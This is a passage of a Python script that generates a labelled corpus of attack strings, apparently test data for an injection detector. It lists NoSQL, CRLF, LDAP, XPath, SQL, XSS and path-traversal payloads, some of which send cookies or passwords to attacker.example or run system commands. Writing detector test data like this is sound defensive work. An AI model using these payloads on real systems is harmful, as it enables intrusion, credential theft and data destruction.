    "{\"$where\": \"Object.keys(this)[0].match('^p')\"}",
    "{\"$lookup\": {\"from\": \"staff_users\", \"localField\": \"x\", \"foreignField\": \"x\", \"as\": \"leak\"}}",
    "{\"$accumulator\": {\"init\": \"function(){return require('child_process')}\", \"lang\": \"js\"}}",
    "{\"mapReduce\": \"dogs\", \"map\": \"function(){emit(db.staff_users.findOne().password,1)}\"}",
    "Blue\"}, {\"$set\": {\"role\": \"admin\"}}, {\"x\":\"",
)

# ---------------------------------------------------------------- crlf (literals)
add("crlf", "crlf-log-forging",
    "Koda\n2025-01-14 10:02:00 INFO admin login succeeded user=admin ip=10.0.0.2",
    "trail3\r\n[2025-02-01T07:00:00Z] AUDIT booking DS-2025-0193 refunded 240.00 EUR by staff=erik",
    "Blue%0d%0a127.0.0.1 - admin [01/Feb/2025:07:00:00 +0000] \"GET /admin HTTP/1.1\" 200",
    "guest%0aWARN: payment verified for ref 5520",
    "lake%0D%0A%0D%0Afake log entry: vet check PASSED 8/8",
    "Sisu\u2028ERROR user=root action=drop_all",
)
add("crlf", "crlf-header-injection",
    "en%0d%0aSet-Cookie:%20session=attacker123;%20Path=/",
    "/booking?lang=fi%0D%0ALocation:%20https://attacker.example/",
    "fi\r\nSet-Cookie: isAdmin=true",
    "koda.jpg%0d%0aContent-Disposition:%20attachment;%20filename=update.exe",
    "%0d%0aAccess-Control-Allow-Origin:%20https://attacker.example%0d%0aAccess-Control-Allow-Credentials:%20true",
    "x%E5%98%8A%E5%98%8DSet-Cookie:%20a=b",
    "trail%c4%8d%c4%8aLocation:%20//attacker.example",
    "/redirect?next=%0aX-Forwarded-Host:%20attacker.example",
    "en-US\r\nX-Original-URL: /admin",
)
add("crlf", "crlf-response-splitting",
    "fi%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>",
    "lang=de\r\n\r\n<html><body>Your kennel session expired. <a href=https://attacker.example/login>Log in</a></body></html>",
    "x%0D%0A%0D%0A%3Cscript%3Ealert(document.domain)%3C/script%3E",
    "%0d%0aContent-Type:%20text/html%0d%0a%0d%0a%3Ch1%3EBooking%20cancelled%3C/h1%3E",
)
add("crlf", "crlf-mail-header",
    "guest@mail.example\r\nBcc: everyone@kennel.example",
    "Anna Lindqvist\nCc: list@attacker.example\nSubject: Your refund",
    "anna@mail.example%0ABcc:%20victim1@mail.example,victim2@mail.example",
    "Tour thanks\r\nContent-Type: text/html\r\n\r\n<a href=https://attacker.example/pay>Pay deposit</a>",
    "x@mail.example\r\nReply-To: billing@attacker.example",
    "Booking%0d%0aTo:%20all-guests@kennel.example%0d%0a",
)
add("crlf", "crlf-csv-row",
    "Koda,24,lake-loop\n2025-01-03,admin,9999,\"=HYPERLINK(\"\"http://attacker.example\"\",\"\"x\"\")\"",
    "great run\"\n\"Bolt\",\"9999\",\"forged row",
    "Tika;24\r\nTOTAL;0;;",
    "\"lead, good\"\r\nLuna,=cmd|' /C calc'!A0,",
    "note\n=1+1,\"@SUM(A1:A9)\",",
)

# ---------------------------------------------------------------- ldap-xpath (literals)
add("ldap-xpath", "ldap-injection",
    "*)(uid=*))(|(uid=*",
    "erik)(|(password=*))",
    "admin)(&)",
    "*)(objectClass=*",
    "anna*)(memberOf=cn=admins,ou=groups,dc=kennel,dc=local",
    "musher)(userPassword=a*",
    "*))%00",
    "x)(!(cn=guest))(cn=*",
    "\\2a)(uid=\\2a",
    "mia)(|(objectclass=person)(description=*",
)
add("ldap-xpath", "xpath-injection",
    "' or '1'='1",
    "Koda' or name()='dog' or 'a'='b",
    "x' or count(/kennel/staff/user)>0 or 'a'='b",
    "' or substring(//user[1]/password,1,1)='a' or '",
    "Blue'] | //user/password | //*['",
    "lake-loop' and string-length(//admin/pass)>5 and '1'='1",
    "') or ('1'='1",
    "1 or 1=1",
    "'] | /* | /foo['",
    "x' or doc('http://attacker.example/'||//user[1]/password) or '",
)

# --------------------------------------- small generated part (joined pools / urlencode)
SQLI_PREFIX = ["Koda", "lake-loop", "DS-2025-0193", "Bib 14", "Trail 3", "jan.csv"]
SQLI_POOL = [
    "' AND 1=(SELECT COUNT(*) FROM staff_users)-- ",
    "' UNION SELECT email,phone FROM guests-- ",
    "'; UPDATE dogs SET status='sold'-- ",
    "' OR SLEEP(3)=0-- ",
]
XSS_PREFIX = ["Koda is lovely ", "Thanks for the tour ", "Trail 2 icy ", "Bib 7 "]
XSS_POOL = [
    "<img src=x onerror=alert(document.cookie)>",
    "<svg onload=location='//attacker.example/'+document.cookie>",
    "<iframe src=javascript:alert(1)>",
]
ENC_SQLI = [
    "Koda' UNION SELECT password FROM staff_users-- ",
    "x'; DROP TABLE race_results;--",
]
ENC_TRAV = [
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "../../.env",
]


def urlencode_all(s):
    return "".join("%%%02X" % b for b in s.encode("utf-8"))


def generated():
    out = []
    seen = set()
    while len([o for o in out if o[0] == "sqli"]) < 2:
        v = rng.choice(SQLI_PREFIX) + rng.choice(SQLI_POOL)
        if v not in seen:
            seen.add(v)
            out.append(("sqli", "sqli-joined", v))
    while len([o for o in out if o[0] == "xss"]) < 2:
        v = rng.choice(XSS_PREFIX) + rng.choice(XSS_POOL)
        if v not in seen:
            seen.add(v)
            out.append(("xss", "xss-joined", v))
    for s in ENC_SQLI:
        out.append(("sqli", "sqli+urlencode", urlencode_all(s)))
    for s in ENC_TRAV:
        out.append(("traversal", "traversal+urlencode", urlencode_all(s)))
    return out


ORDER = ["sqli", "xss", "cmdi", "traversal", "ssrf", "code", "nosqli", "crlf", "ldap-xpath"]


def main():
    here = os.path.dirname(os.path.abspath(__file__))
    benign = set()
    bp = os.path.join(here, "benign.jsonl")
    if os.path.exists(bp):
        with open(bp, encoding="utf-8") as f:
            for line in f:
                benign.add(json.loads(line)["value"])
    lits = list(A)
    gen = generated()
    allv = lits + gen
    values = [v for _, _, v in allv]
    assert len(set(values)) == len(values), [v for v in values if values.count(v) > 1]
    rows = []
    for cat in ORDER:
        rows += [r for r in allv if r[0] == cat]
    assert len(rows) == len(allv)
    assert 480 <= len(rows) <= 500, len(rows)
    assert len(lits) >= 0.9 * len(rows)
    out = []
    for i, (cat, cls, v) in enumerate(rows, 1):
        assert 1 <= len(v) <= 2000, v
        assert v not in benign, v
        assert all(c in "\n\r\t" or ord(c) >= 32 for c in v), v
        out.append(json.dumps({"id": "hakp-%05d" % i, "category": cat, "class": cls,
                               "label": "attack", "value": v}, ensure_ascii=False))
    with open(os.path.join(here, "attacks.jsonl"), "w", encoding="utf-8", newline="\n") as f:
        f.write("\n".join(out) + "\n")
    print("wrote %d attack values (%d literals)" % (len(rows), len(lits)))


if __name__ == "__main__":
    main()
